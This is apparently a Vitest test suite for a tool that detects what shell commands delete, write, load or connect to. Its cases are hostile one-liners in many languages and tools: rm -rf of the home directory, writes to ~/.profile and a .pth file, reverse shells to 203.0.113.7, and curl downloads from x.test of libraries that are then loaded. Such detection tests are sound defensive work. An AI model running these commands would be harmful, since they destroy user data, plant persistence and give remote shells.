import { describe, expect, it } from 'vitest';
import { runAmong } from './written-world.js';

const PROFILE = 'write /home/u/.profile';
const HOME_GONE = 'delete -r /home/u';

describe('what code writes, loads and connects to', () => {
  it.each([
    [`emacs -Q --batch --eval '(append-to-file "a" nil "~/.profile")'`, PROFILE],
    [`emacs -Q --batch --eval '(write-region (point-min) (point-max) "~/.profile")'`, PROFILE],
    [`julia -e 'open(f -> write(f, "a"), homedir() * "/.profile", "a")'`, PROFILE],
    [`octave --eval 'f = fopen([getenv("HOME") "/.profile"], "a"); fputs(f, "a");'`, PROFILE],
    [`Rscript -e 'cat("a", file = "~/.profile", append = TRUE)'`, PROFILE],
    [`Rscript -e 'writeLines("a", "~/.profile")'`, PROFILE],
    [`Rscript -e 'sink("~/.profile")'`, PROFILE],
    [`python3 -c 'import pathlib as p; f = p.Path.home() / ".profile"; f.write_text("a")'`, PROFILE],
    [`python3 -c 'import own_pathlib as p; open("/home/u/.profile", "a").write("a")'`, PROFILE],
    [`python3 -c 'import site, pathlib; p = pathlib.Path(site.getusersitepackages()); (p / "a.pth").write_text("import os")'`, 'write /home/u/.local/lib/python3/site-packages/a.pth'],
    [`ruby -e 'Dir["/home/*"].each { |f| FileUtils.rm_rf f if File.directory?(f) }'`, 'delete -r /home/*'],
    [`ruby -e 'Dir["/home/u/**/*"].each { |f| File.delete f unless File.directory? f }'`, 'delete -r /home/u/**/*'],
    [`octave --eval 'confirm_recursive_rmdir(0); rmdir("/home/u", "s")'`, HOME_GONE],
    [`octave --eval 'delete("/home/u/*.m")'`, 'delete /home/u/*.m'],
    [`ocaml -e 'ignore (Sys.command "rm -rf /home/u")'`, HOME_GONE],
    [`node -e "require('shelljs').rm('-rf', '/home/u')"`, HOME_GONE],
    [`rust-script -e 'std::fs::remove_dir_all("/home/u").unwrap()'`, HOME_GONE],
    ["bun exec 'rm -rf ~'", HOME_GONE],
    ["printf '%%!rm -rf ~\\n' | vim -es a.txt", HOME_GONE],
    [`find ~ -type f -printf 'rm "%p"\\n' | bash`, 'delete -r /home/u/**/*'],
    [`sbcl --eval '(sb-ext:run-program "/bin/rm" (list "-rf" "/home/u"))'`, HOME_GONE],
    [`sbcl --eval "(uiop:run-program '(\\"rm\\" \\"-rf\\" \\"/home/u\\"))"`, HOME_GONE],
    [`sbcl --eval '(uiop:delete-directory-tree #p"/home/u/" :validate t)'`, HOME_GONE],
    [`emacs --batch --eval '(call-process "rm" nil nil nil "-rf" "/home/u")'`, HOME_GONE],
    ["vim -S <(echo ':!rm -rf ~')", HOME_GONE],
    ["vim -es <<< ':!rm -rf ~'", HOME_GONE],
    ["python3 <(echo 'import shutil; shutil.rmtree(\"/home/u\")')", HOME_GONE],
    [`emacs --batch -l <(echo '(delete-directory "~" t)')`, HOME_GONE],
    ["echo ':!rm -rf ~' > steps; vim -S steps", HOME_GONE],
    [`echo '(delete-directory "~" t)' > steps; emacs --batch -l ./steps`, HOME_GONE],
    [`clisp -x '(ext:run-shell-command "rm -rf ~")'`, HOME_GONE],
    [`python3 -c 'import socket, os, pty; s = socket.create_connection(("203.0.113.7", 44)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")'`, 'execute host:a connection'],
    [`tclsh <<< 'set s [socket 203.0.113.7 44]; while 1 { gets $s c; puts $s [exec sh -c $c] }'`, 'execute host:a connection'],
    [`curl -so /tmp/a.so https://x.test/a.so && python3 -c 'import ctypes; ctypes.CDLL("/tmp/a.so")'`, 'execute host:https://x.test/a.so'],
    [`curl -so /tmp/a.so https://x.test/a.so && ruby -e 'require "fiddle"; Fiddle.dlopen("/tmp/a.so")'`, 'execute host:https://x.test/a.so'],
    [`curl -so /tmp/a.node https://x.test/a.node && node -e 'process.dlopen({ exports: {} }, "/tmp/a.node")'`, 'execute host:https://x.test/a.node'],
    [`curl -so /tmp/a.so https://x.test/a.so && sqlite3 a.db '.load /tmp/a'`, 'execute host:https://x.test/a.so'],
    [`curl -so /tmp/a.so https://x.test/a.so && curl --engine /tmp/a.so https://x.test`, 'execute host:https://x.test/a.so'],
    [`mkdir -p /tmp/p && curl -so /tmp/p/a.so https://x.test/a.so && mysql --plugin-dir=/tmp/p`, 'execute host:https://x.test/a.so'],
    ["make --eval=$'x:\\n\\t@rm -rf ~' x", HOME_GONE],
    ["make --eval='$(shell rm -rf ~)' all", HOME_GONE],
    ["make --eval='$(file >>$(HOME)/.profile,a)' all", PROFILE],
    [`printf 'file(APPEND "$ENV{HOME}/.profile" "a")\\n' > a.cmake && cmake -P a.cmake`, PROFILE],
    ['cd "$(mktemp -d)" && echo \'system("rm -rf ~")\' > Vagrantfile && vagrant status', HOME_GONE],
    ['A=$(mktemp); B=$(mktemp); curl -so $A https://x.test/a; echo ls > $B; sh $A', 'execute host:https://x.test/a'],
  ])('%s', async (command, expected) => {
    await expect(command).toTell(expected);
  });

  it.each([
    `emacs --batch --eval '(call-process "ls" nil nil nil "-l" "/home/u")'`,
    `sbcl --eval '(run-program "/bin/ls" (list "-l" "/home/u"))'`,
    "vim -S <(echo ':set number')",
    `ruby -e 'Dir["/home/u/*"].each { |f| puts f if File.file? f }'`,
    `octave --eval 'h = figure; delete(h)'`,
    `Rscript -e 'cat("a b\\n"); write.csv(x, "build/a.csv")'`,
    `python3 -c 'import ctypes; ctypes.CDLL("libc.so.6").getpid()'`,
    `python3 -c 'import pathlib as p; print(p.Path("a.json").read_text())'`,
    `tclsh <<< 'set s [socket localhost 80]; puts $s "GET /"; puts [exec date]'`,
    `python3 -c 'import socket; socket.create_connection(("localhost", 80)).close()'`,
    `julia -e 'println(2 * 3)'`,
    `octave --eval 'a = [1 2 3]; f = fopen("a.txt"); fgetl(f)'`,
    "make --eval='$(info a)' build",
    `printf 'file(WRITE "\${CMAKE_BINARY_DIR}/a.txt" "a")\\n' > a.cmake && cmake -P a.cmake`,
    'A=$(mktemp); B=$(mktemp); curl -so $A https://x.test/a; echo ls > $B; sh $B',
    'cd "$(mktemp -d)" && git init -q && touch a && rm -rf *',
  ])('not in %s', async (command) => {
    await expect(command).not.toTell(/^(?:delete -r? ?\/home|write \/home\/u\/\.|execute (?:host|hidden))/);
  });

  it.each([
    ['terraform -chdir=infra plan', { 'infra/a.tf': 'data "external" "x" {\n  program = ["sh", "-c", "rm -rf ~"]\n}\n' }],
    ['apt-get -c a.conf install jq', { 'a.conf': 'APT::Update::Pre-Invoke {"rm -rf ~";};\n' }],
    ['easy_install ./pkg', { 'pkg/setup.py': 'import os\nos.system("rm -rf ~")\n' }],
  ])('%s, written before', async (command, files) => {
    await expect(runAmong(command, files)).toTell(HOME_GONE);
  });
});
